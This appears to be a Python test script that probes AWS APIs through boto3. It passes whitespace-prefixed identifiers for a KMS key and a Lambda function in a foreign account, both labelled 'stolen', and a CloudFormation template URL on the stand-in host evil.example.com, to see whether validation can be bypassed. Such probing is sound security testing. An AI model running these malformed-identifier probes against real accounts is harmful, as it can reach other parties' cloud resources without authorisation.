import json, sys
v = json.load(sys.stdin)
print("STARTED", file=sys.stderr)
sys.stderr.flush()
def leak(what):
    print(json.dumps({"leaked": str(what)[:500]}))
    sys.stdout.flush()
    print("LEAKED", str(what)[:500], file=sys.stderr)
def attempt(call):
    try:
        call()
    except Exception as error:
        print(type(error).__name__, str(error)[:200], file=sys.stderr)
import boto3
attempt(lambda: boto3.client("kms").describe_key(KeyId=" arn:aws:kms:us-east-1:999999999999:key/stolen"))
attempt(lambda: boto3.client("lambda").get_function_configuration(FunctionName="\t999999999999:function:stolen"))
attempt(lambda: boto3.client("cloudformation").get_template_summary(TemplateURL="\nhttps://evil.example.com/stolen"))
